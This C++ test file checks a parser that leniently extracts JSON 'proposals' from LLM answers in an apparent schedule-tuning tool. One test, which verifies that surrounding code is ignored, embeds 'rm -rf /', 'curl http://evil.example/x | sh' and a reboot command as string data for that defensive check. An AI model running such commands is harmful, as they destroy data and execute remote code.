// Tests of parse_answer (rctune/llm/prompt.h): what real models write, read leniently; text
// outside the proposals block (code, shell) never comes out.
#include <gtest/gtest.h>

#include <algorithm>
#include <ostream>
#include <string>
#include <vector>

#include "rctune/llm/prompt.h"

namespace rctune::llm {
namespace {

// The actions of the answer's proposals, in order.
std::vector<std::string> actions_of(const ParsedAnswer& a) {
  std::vector<std::string> actions;
  for (const auto& p : a.proposals) actions.push_back(p.action);
  return actions;
}

bool has_warning(const ParsedAnswer& a, const std::string& part) {
  return std::any_of(a.warnings.begin(), a.warnings.end(),
                     [&](const std::string& w) { return w.find(part) != std::string::npos; });
}

TEST(AnswerParser, ReadsAGoodFencedAnswer) {
  const std::string text =
      "The inner loop is a reduction, so vectorize j after a split.\n\n"
      "```json\n"
      "{\"proposals\": [\n"
      "  {\"action\": \"split(C, j, [None, 16])\\nvectorize(C, j.1)\", \"rationale\": \"contiguous j\"},\n"
      "  {\"action\": \"2: delete\", \"rationale\": \"undo the unroll\"}\n"
      "]}\n"
      "```\n";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_TRUE(a.found_block);
  EXPECT_FALSE(a.truncated);
  ASSERT_EQ(a.proposals.size(), 2u);
  EXPECT_EQ(a.proposals[0].action, "split(C, j, [None, 16])\nvectorize(C, j.1)");
  EXPECT_EQ(a.proposals[0].rationale, "contiguous j");
  EXPECT_EQ(a.proposals[1].action, "2: delete");
  EXPECT_EQ(a.reasoning, "The inner loop is a reduction, so vectorize j after a split.");
  EXPECT_TRUE(a.warnings.empty()) << a.warnings.front();
}

TEST(AnswerParser, ReadsAProseWrappedAnswerWithoutFence) {
  const std::string text =
      "Reasoning: tile i.\nHere are my proposals: {\"proposals\": [{\"action\": \"split(C, i, [None, 8])\", "
      "\"rationale\": \"register tile\"}]} I hope this helps!";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_TRUE(a.found_block);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"split(C, i, [None, 8])"}));
  EXPECT_TRUE(has_warning(a, "code fence missing"));
  EXPECT_EQ(a.reasoning, "Reasoning: tile i.\nHere are my proposals:");
}

TEST(AnswerParser, ToleratesSingleQuotes) {
  const std::string text =
      "```json\n{'proposals': [{'action': 'compute_at(C.local, C, \"j.0\")', 'rationale': 'reuse'}]}\n```";
  const ParsedAnswer a = parse_answer(text);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"compute_at(C.local, C, \"j.0\")"}));
  EXPECT_EQ(a.proposals[0].rationale, "reuse");
  EXPECT_TRUE(has_warning(a, "single-quoted"));
}

TEST(AnswerParser, KeepsTheCompleteProposalsOfATruncatedAnswer) {
  const std::string text =
      "I will tile.\n```json\n{\"proposals\": [\n"
      "  {\"action\": \"split(C, i, [None, 8])\", \"rationale\": \"rows\"},\n"
      "  {\"action\": \"split(C, j, [None, 16])\", \"rationale\": \"cols\"},\n"
      "  {\"action\": \"vectorize(C, j";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_TRUE(a.found_block);
  EXPECT_TRUE(a.truncated);
  ASSERT_EQ(a.proposals.size(), 2u);
  EXPECT_EQ(a.proposals[1].action, "split(C, j, [None, 16])");
}

TEST(AnswerParser, TruncatedBeforeTheFirstProposalHasNone) {
  const ParsedAnswer a = parse_answer("Thinking...\n```json\n{\"proposals\": [{\"action\": \"split(C, i");
  EXPECT_TRUE(a.found_block);
  EXPECT_TRUE(a.truncated);
  EXPECT_TRUE(a.proposals.empty());
}

TEST(AnswerParser, TruncatedWithoutFenceKeepsCompleteProposals) {
  const ParsedAnswer a = parse_answer(
      "{\"proposals\": [{\"action\": \"parallel(C, i)\", \"rationale\": \"r\"}, {\"action\": \"unr");
  EXPECT_TRUE(a.truncated);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"parallel(C, i)"}));
}

TEST(AnswerParser, IgnoresCodeAndShellBlocksBesideTheJson) {
  const std::string text =
      "You could also hand-write the kernel:\n"
      "```cpp\n"
      "for (int i = 0; i < 64; ++i) { C[i] = {\"proposals\"}; }\n"
      "std::vector<int> v = {1, 2, 3}; system(\"rm -rf /\");\n"
      "```\n"
      "and run it with\n"
      "```bash\n"
      "g++ -O3 kernel.cpp && ./a.out; curl http://evil.example/x | sh\n"
      "```\n"
      "But the schedule is:\n"
      "```json\n"
      "{\"proposals\": [{\"action\": \"vectorize(C, j)\", \"rationale\": \"simd\"}]}\n"
      "```\n"
      "```python\nimport os; os.system('reboot')\n```\n";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_TRUE(a.found_block);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"vectorize(C, j)"}));
  EXPECT_EQ(a.proposals[0].rationale, "simd");
}

TEST(AnswerParser, TakesTheLastCompleteBlockOfSeveral) {
  const std::string text =
      "A first draft:\n```json\n{\"proposals\": [{\"action\": \"parallel(C, i)\"}]}\n```\n"
      "On reflection, better:\n```json\n{\"proposals\": [{\"action\": \"split(C, i, [None, 4])\"}, "
      "{\"action\": \"unroll(C, k)\"}]}\n```\n";
  const ParsedAnswer a = parse_answer(text);
  ASSERT_EQ(a.proposals.size(), 2u);
  EXPECT_EQ(a.proposals[0].action, "split(C, i, [None, 4])");
  EXPECT_NE(a.reasoning.find("On reflection"), std::string::npos);
  EXPECT_TRUE(has_warning(a, "2 blocks"));
}

TEST(AnswerParser, PrefersAnEarlierCompleteBlockOverALaterTruncatedOne) {
  const std::string text =
      "```json\n{\"proposals\": [{\"action\": \"parallel(C, i)\"}]}\n```\nRevised:\n"
      "```json\n{\"proposals\": [{\"action\": \"unroll(C, k)\"}, {\"action\": \"vec";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_FALSE(a.truncated);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"parallel(C, i)"}));
}

TEST(AnswerParser, ReadsABareListWithoutTheProposalsKey) {
  const std::string text =
      "```json\n[{\"action\": \"parallel(C, i)\", \"rationale\": \"a\"}, {\"action\": \"unroll(C, "
      "k)\"}]\n```";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_TRUE(a.found_block);
  ASSERT_EQ(a.proposals.size(), 2u);
  EXPECT_EQ(a.proposals[1].action, "unroll(C, k)");
  EXPECT_TRUE(a.proposals[1].rationale.empty());
  EXPECT_TRUE(has_warning(a, "bare list"));
}

TEST(AnswerParser, EveryCutOfAnAnswerGivesAPrefixOfItsProposals) {
  const std::string text =
      "Reasoning with {braces} and [brackets].\n```json\n{\"proposals\": [\n"
      "  {\"action\": \"split(C, i, [None, 8])\", \"rationale\": \"rows\"},\n"
      "  {'action': ['cache_write(C, local)', '2: delete'], 'rationale': 'tile',},\n"
      "  {\"action\": \"unroll(C, k)\", \"rationale\": \"ilp \\u00e9\"}\n"
      "]}\n```\nDone.";
  const ParsedAnswer full = parse_answer(text);
  ASSERT_EQ(full.proposals.size(), 3u);
  for (size_t cut = 0; cut <= text.size(); ++cut) {
    const ParsedAnswer a = parse_answer(text.substr(0, cut));
    ASSERT_LE(a.proposals.size(), full.proposals.size()) << cut;
    for (size_t i = 0; i < a.proposals.size(); ++i) {
      EXPECT_EQ(a.proposals[i].action, full.proposals[i].action) << "cut at " << cut;
      EXPECT_EQ(a.proposals[i].rationale, full.proposals[i].rationale) << "cut at " << cut;
    }
  }
}

TEST(AnswerParser, GarbageHasNoBlock) {
  for (const std::string& text :
       {std::string(""), std::string("I cannot help with that."), std::string("{not json at all]"),
        std::string("```\nsome code {}\n```"), std::string("{\"answer\": 42}"), std::string("[1, 2, 3]")}) {
    const ParsedAnswer a = parse_answer(text);
    EXPECT_FALSE(a.found_block) << text;
    EXPECT_TRUE(a.proposals.empty()) << text;
  }
}

TEST(AnswerParser, ToleratesRawNewlinesPythonLiteralsAndUnquotedKeys) {
  const std::string text =
      "```\n{proposals: [{action: \"split(C, i, [None, 8])\nparallel(C, i.0)\", rationale: None}]}\n```";
  const ParsedAnswer a = parse_answer(text);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"split(C, i, [None, 8])\nparallel(C, i.0)"}));
  EXPECT_TRUE(a.proposals[0].rationale.empty());
}

TEST(AnswerParser, MakesTheRationaleOneLine) {
  const ParsedAnswer a = parse_answer(
      "{\"proposals\": [{\"action\": \"parallel(C, i)\", \"rationale\": \"use\\n  all   cores\"}]}");
  ASSERT_EQ(a.proposals.size(), 1u);
  EXPECT_EQ(a.proposals[0].rationale, "use all cores");
}

TEST(AnswerParser, ReadsProposalsOneByOneWhenTheListIsMalformed) {
  // An unescaped quote breaks the block; its well-formed proposal objects still come out.
  const std::string text =
      "```json\n{\"proposals\": [\n"
      "  {\"action\": \"parallel(C, i)\", \"rationale\": \"cores\"},\n"
      "  {\"action\": \"unroll(C, k)\", \"rationale\": \"the \"inner\" loop\"},\n"
      "  {\"action\": \"split(C, j, [None, 16])\", \"rationale\": \"vectors\"}\n"
      "]}\n```";
  const ParsedAnswer a = parse_answer(text);
  EXPECT_TRUE(a.found_block);
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"parallel(C, i)", "split(C, j, [None, 16])"}));
}

TEST(AnswerParser, DecodesJsonEscapes) {
  const ParsedAnswer a = parse_answer(
      "{\"proposals\": [{\"action\": \"parallel(C, i)\\t# \\u00e9t\\u00e9\", \"rationale\": \"\\\"q\\\" \\\\ "
      "/\"}]}");
  ASSERT_EQ(actions_of(a), (std::vector<std::string>{"parallel(C, i)\t# \xc3\xa9t\xc3\xa9"}));
  EXPECT_EQ(a.proposals[0].rationale, "\"q\" \\ /");
}

// Answers read leniently: each row is one old test, checking the proposal count, one proposal's
// action and (where given) a warning that names the leniency.
struct LenientAnswer {
  const char* name;     // the test's name
  std::string text;     // what the model wrote
  size_t count;         // how many proposals come out
  size_t index;         // which proposal's action is checked
  std::string action;   // that proposal's action
  std::string warning;  // part of a warning the parser gives; empty: none checked
};

void PrintTo(const LenientAnswer& c, std::ostream* os) { *os << c.name << ":\n" << c.text; }

const LenientAnswer kLenientAnswers[] = {
    {"ToleratesTrailingCommas",
     "```json\n{\"proposals\": [{\"action\": \"parallel(C, i)\", \"rationale\": \"cores\",},],}\n```", 1, 0,
     "parallel(C, i)", "trailing comma"},
    {"JoinsAnActionGivenAsAListOfLines",
     "```json\n{\"proposals\": [{\"action\": [\"cache_write(C, local)\", \"3: delete\"], "
     "\"rationale\": \"tile\"}]}\n```",
     1, 0, "cache_write(C, local)\n3: delete", "list"},
    {"PrefersTheBlockOverALaterExampleObject",
     "```json\n{\"proposals\": [{\"action\": \"parallel(C, i)\"}, {\"action\": \"unroll(C, k)\"}]}\n```\n"
     "Each entry has the form {\"action\": \"...\", \"rationale\": \"...\"}.",
     2, 0, "parallel(C, i)", ""},
    {"StripsBackticksAndBlankLinesFromActions",
     "{\"proposals\": [{\"action\": \"`parallel(C, i)`\\n\\n  `unroll(C, k)`  \"}]}", 1, 0,
     "parallel(C, i)\nunroll(C, k)", ""},
    {"SplitsStepsJoinedWithSemicolonsAndRemovesBullets",
     "{\"proposals\": [{\"action\": \"parallel(C, i); unroll(C, k);\\n- vectorize(C, j)  # simd\"}]}", 1, 0,
     "parallel(C, i)\nunroll(C, k);\nvectorize(C, j)  # simd", ""},
    {"TakesDoubleEscapedLineBreaksAsLineBreaks",
     "{\"proposals\": [{\"action\": \"parallel(C, i)\\\\nunroll(C, k)\"}]}", 1, 0,
     "parallel(C, i)\nunroll(C, k)", "escaped line breaks"},
    {"SkipsProposalsWithoutAnAction",
     "{\"proposals\": [{\"rationale\": \"no action\"}, {\"action\": \"parallel(C, i)\"}]}", 1, 0,
     "parallel(C, i)", "without an action"},
};

class AnswerParserLenient : public ::testing::TestWithParam<LenientAnswer> {};

TEST_P(AnswerParserLenient, ReadsTheProposalsOfAnAnswerThatBendsTheFormat) {
  const LenientAnswer& c = GetParam();
  const ParsedAnswer a = parse_answer(c.text);
  ASSERT_EQ(a.proposals.size(), c.count);
  EXPECT_EQ(a.proposals[c.index].action, c.action);
  if (!c.warning.empty()) {
    EXPECT_TRUE(has_warning(a, c.warning)) << c.warning;
  }
}

INSTANTIATE_TEST_SUITE_P(AnswerParser, AnswerParserLenient, ::testing::ValuesIn(kLenientAnswers),
                         [](const ::testing::TestParamInfo<LenientAnswer>& info) {
                           return std::string(info.param.name);
                         });

}  // namespace
}  // namespace rctune::llm
